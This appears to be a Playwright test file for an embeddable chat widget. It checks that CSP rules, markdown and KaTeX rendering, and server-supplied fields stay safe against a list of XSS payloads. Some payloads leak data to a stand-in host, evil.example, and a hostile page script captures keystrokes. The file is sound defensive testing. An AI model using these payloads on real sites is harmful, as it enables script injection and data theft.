"""What a model, an article, a host page or its policy may try: nothing runs, nothing is fetched, all works."""

from __future__ import annotations

import os
import time
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, expect

from senmon.messages import Event
from server_rig import Site, done
from widget_rig import HERE, PLAIN_PAGE, HostSite, Widget, WidgetAssistant, embed, thorough

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
Visit = Callable[..., Widget]

STRICT = (
    "default-src 'none'; script-src {bot}; connect-src {bot}; style-src 'self'; img-src 'self'; base-uri 'none'; "
    "require-trusted-types-for 'script'; trusted-types lit-html"
)
POLICIES = {
    "strict": (STRICT, ""),
    "nonce": (
        "default-src 'none'; script-src 'nonce-n0nce' 'strict-dynamic'; connect-src {bot}; style-src 'none'; "
        "font-src 'none'; img-src 'none'; require-trusted-types-for 'script'; trusted-types lit-html",
        "n0nce",
    ),
    "usual": ("default-src 'self'; script-src 'self' {bot}; connect-src 'self' {bot}; object-src 'none'", ""),
}
PAYLOADS = [
    "<img src=x onerror=window.broken=1>",
    "<script>window.broken=1</script>",
    "<svg onload=window.broken=1>",
    "<iframe src=javascript:window.broken=1></iframe>",
    "<a href='javascript:window.broken=1'>a</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.broken=1>",
    "<details open ontoggle=window.broken=1>",
    "[a](javascript:window.broken=1)",
    "[a](JaVaScRiPt:window.broken=1)",
    "[a](java\tscript:window.broken=1)",
    "[a](&#106;avascript:window.broken=1)",
    "[a](vbscript:msgbox)",
    "[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuYnJva2VuPTE8L3NjcmlwdD4=)",
    "[a](//evil.example/x)",
    "[a](/relative)",
    "[a](https://ok.example/'onmouseover=window.broken=1')",
    "[a]: javascript:window.broken=1\n\n[a]",
    "<javascript:window.broken=1>",
    "![alt](https://evil.example/leak.png?secret)",
    "[![alt](https://evil.example/leak.png)](javascript:window.broken=1)",
    "![alt](javascript:window.broken=1)",
    r"\(\href{javascript:window.broken=1}{x}\)",
    r"\(\htmlStyle{background:url(https://evil.example)}{x}\)",
    r"\(\includegraphics{https://evil.example/x.png}\)",
    r"\(\def\a{\a\a}\a\)",
    "`<img src=x onerror=window.broken=1>`",
    "```html\n<script>window.broken=1</script>\n```",
    "| <img src=x onerror=window.broken=1> | b |\n|---|---|\n| <script>1</script> | c |",
    "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example>",
    "<form action=javascript:window.broken=1><input type=submit>",
]
#: What may be in a bubble, and with which attributes, walked in the page itself.
UNSAFE = """(root) => {
  const tags = new Set(("DIV SPAN P BR HR STRONG EM DEL CODE PRE A UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD " +
    "H3 H4 H5 H6 I").split(" "));
  const names = new Set(["class", "dir", "part", "href", "target", "rel", "start", "scope", "tabindex"]);
  const found = [];
  for (const node of root.querySelectorAll("*")) {
    if (node.closest(".katex")) {
      if ([...node.attributes].some(({ name }) => /^on|href|src/i.test(name))) found.push(node.outerHTML);
      continue;
    }
    if (!tags.has(node.tagName)) found.push(node.outerHTML);
    for (const { name, value } of node.attributes) {
      if (!names.has(name)) found.push(`${node.tagName} ${name}=${value}`);
      if (name === "href" && !/^(https?:\\/\\/|mailto:|tel:)/.test(value)) found.push(value);
    }
    if (node.tagName === "A" && node.rel !== "noopener noreferrer nofollow ugc") found.push(node.outerHTML);
  }
  return found;
}"""

EVERY_FRAME = """() => {
  const check = %s;
  window.unsafe = [];
  window.frames_seen = 0;
  const look = () => {
    for (const bubble of document.querySelector("senmon-chat").shadowRoot.querySelectorAll(".bubble")) {
      window.unsafe.push(...check(bubble));
    }
    window.frames_seen += 1;
    requestAnimationFrame(look);
  };
  look();
}"""


@pytest.mark.parametrize(
    "name", [pytest.param(name, marks=[] if name == "strict" else [thorough]) for name in POLICIES]
)
def test_strict_policies_are_kept_to_and_everything_works(
    name: str, visit: Visit, bot: Site, assistant: WidgetAssistant
) -> None:
    policy, nonce = POLICIES[name]
    widget = visit(policy=policy.format(bot=bot.url), nonce=nonce, lang="ja" if name == "usual" else "en")
    if name == "usual":
        widget.box = widget.page.get_by_label("メッセージ", exact=True)
        widget.page.get_by_role("button", name="チャットを開く").click()
    else:
        widget.open()
    assistant.lines = [r"Maths: \(\frac{1}{2}\), **bold** and [a link](https://shop.example/help)."]
    widget.say("say it")
    answer = widget.heard("bold")
    expect(answer.locator(".katex")).to_be_visible()
    # Asked from outside: a condition that the page itself polls is evaluated text, which its policy forbids.
    loaded = "[...document.fonts].some((face) => face.family === 'KaTeX_Main' && face.status === 'loaded')"
    until = time.monotonic() + 15
    while not widget.page.evaluate(loaded) and time.monotonic() < until:
        widget.page.wait_for_timeout(50)
    assert widget.page.evaluate(loaded)
    link = answer.get_by_role("link", name="a link")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow ugc")
    expect(link).to_have_attribute("href", "https://shop.example/help")


def test_payloads_stay_text_while_they_stream(visit: Visit, bot: Site, assistant: WidgetAssistant) -> None:
    widget = visit(policy=STRICT.format(bot=bot.url)).open()
    text = "\n\n".join(PAYLOADS)
    assistant.lines = [text[at : at + 37] for at in range(0, len(text), 37)]
    widget.page.evaluate(EVERY_FRAME % UNSAFE)
    widget.say("say it")
    answer = widget.heard("window.broken=1")
    frames, found = widget.page.evaluate("[window.frames_seen, window.unsafe]")
    assert found == [] and frames > 5
    assert answer.locator(".bubble").evaluate(UNSAFE) == []
    for shown in (
        "<img src=x onerror=window.broken=1>",
        "<script>window.broken=1</script>",
        "(javascript:window.broken=1)",
    ):
        expect(answer.locator(".bubble")).to_contain_text(shown)
    for link in answer.get_by_role("link").all():
        href = str(link.get_attribute("href"))
        assert href.startswith(("https://", "mailto:", "tel:")), href
    widget.page.reload()
    widget.open()
    assert widget.heard("window.broken=1").locator(".bubble").evaluate(UNSAFE) == []
    assert widget.page.evaluate("window.broken") is None


def test_hostile_names_from_the_server_are_text(visit: Visit, bot: Site, assistant: WidgetAssistant) -> None:
    bad = "<img src=x onerror=window.broken=1>"

    async def script(word: str) -> Any:
        yield Event(
            "passages",
            {"items": [{"id": "../x", "title": bad, "url": "javascript:window.broken=1", "score": 1}]},
        )
        yield Event("action", {"name": "look", "label": bad, "status": "started"})
        yield Event(
            "action", {"name": "look", "status": "finished", "buttons": [{"title": bad, "payload": bad}]}
        )
        yield Event("delta", {"text": "Fine."})
        yield done("stop")

    assistant._script = script  # type: ignore[method-assign]
    widget = (
        visit(policy=STRICT.format(bot=bot.url), heading=bad.replace("<", "&lt;")).open().say(f"look {bad}")
    )
    answer = widget.heard("Fine.")
    for place in (
        answer.locator(".step"),
        answer.locator(".sources"),
        answer.locator(".chips"),
        widget.page.locator(".user .bubble"),
        widget.page.locator(".title"),
    ):
        expect(place).to_contain_text(bad)
    answer.get_by_role("button", name="Read the article").click()
    expect(widget.page.get_by_role("alert")).to_contain_text("can't be shown")
    widget.page.keyboard.press("Escape")
    assert widget.page.locator("senmon-chat img").count() == 0
    assert widget.page.evaluate("window.broken") is None


FUZZ = """async ({ seed, count, unsafe }) => {
  const check = (0, eval)(unsafe);
  let state = seed;
  const random = () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
  const pick = (list) => list[Math.floor(random() * list.length)];
  const bits = window.payloads.concat(["**", "*", "_", "`", "```\\n", "> ", "- ", "1. ", "# ", "|", "\\n", "\\n\\n", "[", "](", ")", "![",
    "<", ">", "&lt;", "&#x3c;", "&amp;", "\\\\(", "\\\\)", "\\\\[", "\\\\]", "$", "$$", "\\\\frac{1}{2}", "x^2", "「語」", "です", "‮", "\\u0000",
    "https://ok.example", "javascript:", "data:", " onerror=window.broken=1 ", "'", '"', "--", "~~", "\\t", "    ", "www.x.example", "a@b.example"]);
  const cut = (text) => (random() < 0.4 ? text.slice(0, Math.floor(random() * text.length)) : text);
  const chat = document.querySelector("senmon-chat");
  const faults = [];
  addEventListener("error", ({ message }) => faults.push(`threw ${message}`));
  const shown = { key: "f", role: "assistant", text: "", runId: "f", state: "done", citations: [], steps: [], chips: [], error: "", code: "", note: "" };
  chat.chat.messages = [shown];
  for (let each = 0; each < count; each += 1) {
    shown.text = Array.from({ length: 1 + Math.floor(random() * 9) }, () => cut(pick(bits))).join("");
    // Half of them grow, as an answer that streams does.
    const parts = random() < 0.5 ? [shown.text] : [shown.text.slice(0, shown.text.length / 2), shown.text];
    for (shown.text of parts) {
      chat.requestUpdate();
      await chat.updateComplete;
    }
    const bubble = [...chat.shadowRoot.querySelectorAll(".message.assistant .bubble")].at(-1);
    if (!bubble || !shown.text) continue;
    faults.push(...check(bubble).map((found) => `${found} ← ${shown.text}`));
    const copy = bubble.cloneNode(true);
    for (const formula of copy.querySelectorAll(".katex")) formula.replaceWith("formula");
    const walker = document.createTreeWalker(copy, NodeFilter.SHOW_COMMENT);
    const comments = [];
    while (walker.nextNode()) comments.push(walker.currentNode);
    comments.forEach((comment) => comment.remove());
    const before = copy.outerHTML;
    DOMPurify.sanitize(before, { ADD_ATTR: ["target", "part", "tabindex", "scope"] });
    const removed = DOMPurify.removed.map((one) => (one.element ?? one.from)?.outerHTML ?? String(one.attribute?.name));
    faults.push(...removed.map((found) => `purified ${found} ← ${shown.text}`));
    if (faults.length > 5) break;
  }
  return faults;
}"""


def test_fuzz_against_dompurify(visit: Visit) -> None:
    """500 documents; with SENMON_WIDGET_FUZZ=12000 and another SENMON_WIDGET_SEED as many as you like."""
    widget = visit().open()
    widget.page.evaluate((HERE / "vendor" / "purify.min.js").read_text(encoding="utf-8"))
    widget.page.evaluate("(payloads) => { window.payloads = payloads; }", PAYLOADS)
    given = {
        "seed": int(os.environ.get("SENMON_WIDGET_SEED", "7")),
        "count": int(os.environ.get("SENMON_WIDGET_FUZZ", "500")),
        "unsafe": f"({UNSAFE})",
    }
    assert widget.page.evaluate(FUZZ, given) == []
    assert widget.page.evaluate("window.broken") is None


HOSTILE_HEAD = """
<base href="https://elsewhere.example/">
<style>
  * { display: none !important; } html, body, head ~ * { display: block !important; direction: rtl; }
  senmon-chat { all: unset !important; direction: rtl !important; transform: rotate(180deg) !important; display: none !important;
    font: 60px cursive !important; color: red !important; letter-spacing: 1em !important; text-transform: uppercase !important; }
  html { font-size: 40px; } button, textarea { display: none !important; }
</style>
<script>
  Object.prototype.extra = "spoilt"; Object.prototype.extend = function () { return 1; };
  Array.prototype.remove = function () {}; Array.prototype.toJSON = () => "spoilt"; String.prototype.toJSON = () => "spoilt";
  window.keys = [];
  for (const name of ["keydown", "keyup", "keypress", "input", "paste"]) {
    document.addEventListener(name, (event) => { window.keys.push(event.key || name); if (event.key !== "Tab") event.preventDefault(); });
  }
</script>
"""


def test_a_hostile_page_does_not_spoil_it(visit: Visit, bot: Site, assistant: WidgetAssistant) -> None:
    widget = visit(body=HOSTILE_HEAD + "<h1>Hostile</h1>").open()
    widget.box.press_sequentially("say /jk hi", delay=1)
    assistant.lines = [r"Here: \(x^2\) and [one](https://ok.example)."]
    widget.box.press("Enter")
    answer = widget.heard("Here:")
    expect(answer.locator(".katex")).to_be_visible()
    assert [said for _, said, *_ in assistant.asked] == ["say /jk hi"]
    assert widget.page.evaluate("window.keys") == []
    frame = widget.page.locator("senmon-chat .window").bounding_box()
    size = widget.page.viewport_size
    assert frame and size and frame["x"] >= 0 and frame["x"] + frame["width"] <= size["width"]
    look = widget.box.evaluate(
        "(box) => { const s = getComputedStyle(box); return [s.direction, s.fontSize, s.letterSpacing, s.textTransform]; }"
    )
    assert look == ["ltr", "16px", "normal", "none"]
    answer.get_by_role("button", name="Not helpful").click()
    widget.page.get_by_label("What should the answer").fill("Better words")
    widget.page.get_by_role("button", name="Send", exact=True).first.click()
    expect(answer).to_contain_text("Thank you")


def test_another_origin_gets_no_token(context: BrowserContext, host: HostSite, bot: Site) -> None:
    """A page of an origin that the site does not name: the widget says that there is no way in."""
    host.put("/other", PLAIN_PAGE.format(tag=embed(bot.url), body=""))
    page = context.new_page()
    page.goto(host.url.replace("localhost", "127.0.0.1") + "/other")
    page.get_by_role("button", name="Open the chat").click()
    expect(page.get_by_role("alert")).to_contain_text("can't be reached")


def test_no_code_that_makes_html() -> None:
    """The sources name none of the ways from text to code; the bundle's only one is lit's own template."""
    sources = (HERE.parents[1] / "src" / "senmon" / "widget" / "src").glob("*.ts")
    banned = (
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "unsafeHTML",
        "unsafeSVG",
        "document.write",
        "eval(",
        "new Function",
        'style="',
        "srcdoc",
    )
    for source in sources:
        text = source.read_text(encoding="utf-8")
        assert [word for word in banned if word in text] == [], source.name
